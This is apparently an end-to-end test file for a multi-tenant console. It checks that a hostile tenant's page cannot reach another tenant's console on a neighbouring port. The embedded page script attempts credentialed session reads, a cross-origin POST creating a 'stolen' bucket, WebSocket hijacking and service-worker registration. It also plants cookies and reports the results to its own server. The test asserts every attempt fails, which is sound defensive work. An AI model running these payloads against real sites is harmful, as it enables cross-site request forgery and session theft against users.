import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { assert, suite } from '../lib/suite.ts'
import { freePort } from '../../testing/process.ts'
import { until } from '../lib/until.ts'
import { inTab, page, problems, useConsole } from './console.ts'
import { openPage, waitForHeading } from './pages.ts'

const test = suite('consoles of tenants on ports in demo mode')

/** First of some free ports. */
const freePorts = async (count: number): Promise<number> => {
  const first = await freePort()
  for (let port = first + 1; port < first + count; port += 1)
    if (port > 65535 || (await freePort(port)) !== port) return freePorts(count)
  return first
}

/** Page of a hostile tenant, which attacks the console of another tenant at its port, and writes the cookie of it. */
const attackPage = (victim: string) => `<!doctype html><title>evil</title><script>
const tried = {}
const attempt = async (name, act) => { try { tried[name] = String(await act()) } catch { tried[name] = 'refused' } }
void (async () => {
  await attempt('read', async () => (await fetch('${victim}/api/v1/session', { credentials: 'include' })).status)
  await attempt('send', async () => (await fetch('${victim}/api/v1/buckets', {
    method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"stolen"}' })).type)
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${victim.replace('http', 'ws')}/ws/session')
    socket.onopen = () => resolve('open')
    socket.onerror = reject
  }))
  await attempt('worker', async () => (await navigator.serviceWorker.register('/worker.js')).scope)
  await attempt('cookies', () => document.cookie)
  document.cookie = 'proxied-${new URL(victim).port}=planted; path=/api; secure; samesite=none'
  document.cookie = 'proxied-${new URL(victim).port}=planted; path=/; secure; samesite=none; partitioned'
  await fetch('/tried', { method: 'POST', body: JSON.stringify(tried) })
})()
</script>`

let tried: Record<string, string> | undefined
let victim = ''
const requests: string[] = []
const attacker = createServer((request, response) => {
  requests.push(`${request.method} ${request.url}`)
  if (request.url === '/tried') {
    request.setEncoding('utf8').once('data', (text: string) => (tried = JSON.parse(text) as Record<string, string>))
    return void response.end()
  }
  if (request.url === '/api/v1/login')
    return void response.writeHead(201, { 'set-cookie': 'token=of-evil; Path=/' }).end('{}')
  response.writeHead(200, { 'content-type': 'text/html' }).end(attackPage(victim))
}).listen(0, '127.0.0.1')
await once(attacker, 'listening')
test.after(() => {
  attacker.closeAllConnections()
  attacker.close()
})

const first = await freePorts(3)
useConsole(test, {
  on: 'demo',
  env: {
    CONSOLE_TENANT_PORTS: `http://localhost:${first}-${first + 2}`,
    CONSOLE_TENANT_ADDRESSES: `docs/docs-console=http://127.0.0.1:${(attacker.address() as AddressInfo).port}`,
  },
})

const framed = () => page.frameLocator('iframe')

test('consoles of tenants work at their ports, and a hostile one reaches no other', async () => {
  await inTab({}, async () => {
    await openPage('/namespaces/harbour/tenants/harbour-prod/hop', 'Management')
    const buckets = framed().getByRole('link', { name: 'Buckets', exact: true })
    await buckets.click()
    await framed().locator('h1', { hasText: 'Buckets' }).waitFor()
    victim = new URL((await page.locator('iframe').getAttribute('src')) ?? '').origin
    assert.is(victim, `http://localhost:${first}`)

    await openPage('/namespaces/docs/tenants/docs/hop', 'Management')
    await until(async () => tried !== undefined)
    assert.equal(tried, { read: 'refused', send: 'opaque', socket: 'refused', worker: 'refused', cookies: '' })
    assert.ok(!requests.includes('GET /worker.js'))
    await waitForHeading('Management')
    problems.length = 0

    // what the hostile page planted neither opens the other tenant nor keeps it closed
    await openPage('/namespaces/harbour/tenants/harbour-prod/hop', 'Management')
    await buckets.click()
    await framed().getByRole('link', { name: 'media', exact: true }).waitFor()
    assert.is(await framed().getByRole('link', { name: 'stolen' }).count(), 0)

    await openPage('/namespaces/media/tenants/media-web/hop', 'Management')
    await buckets.click()
    await framed().locator('h1', { hasText: 'Buckets' }).waitFor()
    const used = page.frames().map((frame) => new URL(frame.url()).port)
    assert.ok(used.includes(String(first + 2)), used.join(', '))
    problems.length = 0
  })
})
